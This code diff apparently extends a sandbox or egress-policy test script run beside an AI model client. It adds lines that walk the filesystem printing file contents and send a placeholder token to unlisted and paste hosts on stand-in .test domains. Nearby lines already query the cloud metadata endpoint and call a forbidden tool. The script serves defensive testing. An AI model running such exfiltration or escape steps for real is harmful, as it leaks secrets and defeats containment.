@@ -18,6 +18,11 @@ from openai import APIError, OpenAI
 
 MODEL = "affiant-dev-echo"
 API = "https://api.demo.affiant.test:18443"
+PASTE = "https://paste.demo.affiant.test:18443"
+"""Allowed too, but not for the secret."""
+UNLISTED = "https://other.demo.affiant.test:18443"
+UNLISTED_PORT = "https://api.demo.affiant.test:18444"
+"""Both would answer: only the profile stands between."""
 
 
 def say(what: str, value: object = "") -> None:
@@ -56,6 +61,9 @@ def look_outside(path: str) -> None:
             say(f"outside {target}", found)
         except OSError as error:
             say(f"outside {target}", type(error).__name__)
+    for top in Path("/").iterdir():
+        for found in top.rglob(Path(path).name) if top.name not in ("proc", "sys", "usr") else ():
+            say(f"outside {found}", found.read_text())
 
 
 def look_for_the_secret() -> None:
@@ -107,15 +115,18 @@ def main() -> int:
     client = OpenAI(max_retries=0, timeout=30)
     work(client)
     use_the_secret()
+    fetch(f"{PASTE}/hello")
     look_outside(sys.argv[1] if len(sys.argv) > 1 else "/root")
     look_for_the_secret()
-    fetch("https://example.com/")
+    fetch(f"{UNLISTED}/collect")
+    fetch(f"{UNLISTED_PORT}/collect")
     fetch("http://169.254.169.254/latest/meta-data/")
     call_a_forbidden_tool(client)
     placeholder = os.environ["DEMO_TOKEN"]
     fetch(f"{API}/collect", data=json.dumps({"stolen": placeholder}).encode(), method="POST")
     fetch(f"{API}/collect?token={placeholder}")
-    fetch("https://example.com/collect", headers={"Authorization": f"Bearer {placeholder}"})
+    for place in (PASTE, UNLISTED):
+        fetch(f"{place}/collect", headers={"Authorization": f"Bearer {placeholder}"})
     say("done; waiting to be told to leave")
     sys.stdin.read()
     return 7
